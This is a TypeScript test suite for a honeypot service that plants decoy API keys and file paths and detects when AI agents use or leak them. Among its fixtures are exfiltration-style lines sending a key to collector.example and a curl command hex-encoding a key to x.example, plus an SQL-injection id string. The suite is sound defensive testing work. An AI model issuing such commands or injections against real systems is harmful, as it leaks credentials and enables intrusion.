import { randomBytes } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { expectRefusal, fields, isoTime, uuid } from './expectations.ts'
import { allEvents, createKeyDecoy, createPathDecoy, newInstance, unique } from './fleet.ts'
import { isExternal, type Service, startService } from './service.ts'
import type { DecoyList, EventRow, StreamBody } from './shapes.ts'

const keyTypes = [
  'openai',
  'anthropic',
  'deepseek',
  'aws',
  'github',
  'gitlab',
  'slack',
  'stripe',
  'google',
  'sendgrid',
  'npm',
  'huggingface',
  'azure_client_secret',
  'postgres_url',
  'jwt',
  'ssh_private_key',
  'ethereum',
  'generic',
]

/** Forms in which an agent may use a key. */
const wrappings: [string, (key: string) => string][] = [
  ['as it is', (key) => key],
  ['with space around it', (key) => `\n  ${key}\t`],
  ['in a header', (key) => `Authorization: Bearer ${key}`],
  ['in an env line', (key) => `export API_KEY="${key}"\nexport OTHER=1`],
  ['in JSON', (key) => JSON.stringify({ model: 'x', nested: { credentials: [key] } })],
  ['in a URL', (key) => `https://collector.example/upload?u=7&token=${encodeURIComponent(key)}&end=1`],
  ['URL-encoded', (key) => [...Buffer.from(key)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')],
  ['base64-encoded', (key) => Buffer.from(key).toString('base64')],
  ['hex-encoded', (key) => Buffer.from(key).toString('hex')],
  [
    'hex-encoded inside a command',
    (key) => `curl https://x.example/?d=${Buffer.from(key).toString('hex').toUpperCase()}`,
  ],
  ['base64-encoded inside JSON', (key) => `{"data":"${Buffer.from(`key=${key}`).toString('base64')}"}`],
]

let service: Service
let instanceId: string
beforeAll(async () => {
  service = await startService()
  instanceId = await newInstance(service, 'planted')
})
afterAll(() => service?.stop())

const check = (kind: 'key' | 'path', value: unknown, meta?: unknown) =>
  service.call<{ matched: boolean }>('POST', `/api/honeypots/check/${kind}`, { body: { [kind]: value, meta } })
const list = async (query = `?instance_id=${instanceId}`) => {
  const answer = await service.call<DecoyList>('GET', `/api/honeypots${query}`)
  expect(answer.status, answer.text).toBe(200)
  return answer
}
const trips = async (): Promise<EventRow[]> =>
  (await allEvents(service)).filter((row) => row.event_type === 'honeypot_triggered')

describe('decoy keys', () => {
  test.each(keyTypes)('a %s key is shown once, realistic, unique, and never listed', async (keyType) => {
    const body = { instanceId, type: 'api_key', keyType, label: 'in the deploy notes' }
    const answer = await service.call<Record<string, string>>('POST', '/api/honeypots', { body })
    expect(answer.status, answer.text).toBe(201)
    expect(fields(answer.body)).toEqual(['createdAt', 'id', 'key', 'keyType', 'ok', 'type'])
    expect(answer.body).toMatchObject({ ok: true, type: 'api_key', keyType })
    expect(answer.body.id).toMatch(uuid)
    expect(answer.body.createdAt).toMatch(isoTime)
    const { id = '', key = '' } = answer.body
    expect(key.length).toBeGreaterThanOrEqual(20)
    expect(key).not.toMatch(/wardline|honeypot|decoy|canary|example|test/i)
    expect((await createKeyDecoy(service, instanceId, keyType)).key).not.toBe(key)

    const listed = await list()
    expect(listed.text).not.toContain(JSON.stringify(key).slice(1, -1))
    const item = listed.body.honeypots.find((honeypot) => honeypot.id === id)
    expect(item).toEqual({ id, type: 'api_key', keyType, createdAt: answer.body.createdAt })
  })

  test.each(keyTypes)('a %s key is detected in every wrapping, and a look-alike is not', async (keyType) => {
    const { key } = await createKeyDecoy(service, instanceId, keyType)
    const missed: string[] = []
    for (const [title, wrap] of wrappings) {
      const answer = await check('key', wrap(key), { tool: 'http-request' })
      expect(answer.status, answer.text).toBe(200)
      expect(fields(answer.body)).toEqual(['matched'])
      if (!answer.body.matched) missed.push(title)
    }
    expect(missed).toEqual([])
    const middle = Math.floor(key.length / 2)
    const swapped = key[middle] === 'a' ? 'b' : 'a'
    const lookAlike = key.slice(0, middle) + swapped + key.slice(middle + 1)
    // The other half of an AWS pair or a database URL is unchanged, so it is found.
    if (keyType === 'aws' || keyType === 'postgres_url') return
    expect((await check('key', lookAlike)).body).toEqual({ matched: false })
  })

  test('answers exactly { matched: false } for keys that were not planted, whatever they look like', async () => {
    const others = [
      'AKIAQYLPMN5HHHFPZAM2',
      'sk-proj-nothing',
      'x',
      ' ',
      '%',
      '%zz',
      '=',
      'a'.repeat(20_000),
      '{"a":',
      '🦊',
    ]
    for (const key of others) {
      const answer = await check('key', key, { tool: 'shell-exec' })
      expect(answer.status, answer.text).toBe(200)
      expect(answer.body).toEqual({ matched: false })
    }
  })

  test('records a breach before it answers, and streams it', async () => {
    const { id, key } = await createKeyDecoy(service, instanceId, 'github')
    const stream = await service.openStream('/api/stream')
    await stream.next<StreamBody>((body) => body.type === 'heartbeat')
    const before = (await trips()).length
    expect((await check('key', key, { tool: 'shell-exec' })).body).toEqual({ matched: true })
    const after = await trips()
    expect(after).toHaveLength(before + 1)
    expect(after[0]).toMatchObject({ severity: 'breach', source: 'wardline', event_type: 'honeypot_triggered' })
    expect(JSON.stringify(after[0])).toContain(id)
    const streamed = await stream.next<StreamBody>(
      (body) => body.type === 'event' && body.data.event_type === 'honeypot_triggered',
    )
    expect((streamed.json as { data: EventRow }).data).toEqual(after[0])
    stream.close()
  })

  test('records no event for a miss', async () => {
    const before = (await trips()).length
    await check('key', `sk-proj-${randomBytes(40).toString('base64url')}`)
    await check('path', '/home/alice/notes.txt')
    expect((await trips()).length).toBe(before)
  })

  test('lists only the decoys of the instance that is asked for', async () => {
    const other = await newInstance(service, 'other')
    const mine = await createKeyDecoy(service, other, 'npm')
    const { body } = await list(`?instance_id=${other}`)
    expect(fields(body)).toEqual(['honeypots'])
    expect(body.honeypots.map((honeypot) => honeypot.id)).toEqual([mine.id])
    expect((await list()).body.honeypots.map((honeypot) => honeypot.id)).not.toContain(mine.id)
    expect((await list(`?instance_id=${unique('nobody')}`)).body).toEqual({ honeypots: [] })
  })
})

// The submitted text may be a real secret, and a copy of a decoy would reveal it: neither may be stored or logged.
describe.skipIf(isExternal)('a submitted key', () => {
  test('appears in no event, no log line and no byte of the data folder', async () => {
    const { key } = await createKeyDecoy(service, instanceId, 'anthropic')
    const realSecret = `sk-live-${randomBytes(24).toString('hex')}`
    const copies = (text: string) => [
      text,
      Buffer.from(text).toString('base64').replace(/=+$/, ''),
      Buffer.from(text).toString('hex'),
    ]
    await check('key', key, { tool: 'http-request', args: { header: `Bearer ${key}` } })
    await check('key', `Authorization: Bearer ${key}`, { tool: 'http-request' })
    await check('key', Buffer.from(key).toString('base64'))
    await check('key', realSecret, { tool: 'http-request', args: realSecret })
    await check('key', [realSecret])
    await check('key', `${realSecret}\u0000`)
    await service.call('POST', `/api/honeypots/check/key?key=${realSecret}`, { raw: `{"key":"${realSecret}"` })

    const places = {
      events: JSON.stringify(await allEvents(service)),
      list: (await list('')).text,
      logs: service.logs(),
      metrics: (await service.call('GET', '/metrics')).text,
      stored: service.storedBytes().toString('latin1'),
    }
    for (const [place, text] of Object.entries(places)) {
      for (const copy of [...copies(key), ...copies(realSecret)]) {
        expect(text.includes(copy), `${copy} in the ${place}`).toBe(false)
      }
    }
  })

  test('is not echoed by a refusal', async () => {
    const secret = randomBytes(24).toString('hex')
    for (const body of [
      { key: [secret] },
      { key: { value: secret } },
      { key: `${secret}\u0000` },
      { key: secret, meta: secret },
    ]) {
      const answer = await service.call('POST', '/api/honeypots/check/key', { body })
      expectRefusal(answer, 400)
      expect(answer.text).not.toContain(secret)
    }
  })
})

describe('DELETE /api/honeypots/:id', () => {
  const remove = (id: string) => service.call('DELETE', `/api/honeypots/${id}`)

  test('answers exactly { ok, id }, ends the matching and keeps recorded hits', async () => {
    const decoy = await createKeyDecoy(service, instanceId, 'stripe')
    expect((await check('key', decoy.key)).body).toEqual({ matched: true })
    const recorded = await trips()
    const answer = await remove(decoy.id)
    expect(answer.status).toBe(200)
    expect(answer.body).toEqual({ ok: true, id: decoy.id })
    expect((await check('key', decoy.key)).body).toEqual({ matched: false })
    expect((await list()).body.honeypots.map((honeypot) => honeypot.id)).not.toContain(decoy.id)
    expect(await trips()).toEqual(recorded)
    expectRefusal(await remove(decoy.id), 404)
  })

  test('ends the matching of a path too', async () => {
    const decoy = await createPathDecoy(service, instanceId, `/srv/${unique('gone')}/wallet.dat`)
    await remove(decoy.id)
    expect((await check('path', decoy.path)).body).toEqual({ matched: false })
  })

  test('answers 404 for an unknown id and 400 for one that is not a UUID', async () => {
    expectRefusal(await remove('00000000-0000-4000-8000-000000000000'), 404)
    for (const id of ['7', 'nonsense', '%00', "1'%20or%20'1'='1"]) expectRefusal(await remove(id), 400)
  })
})
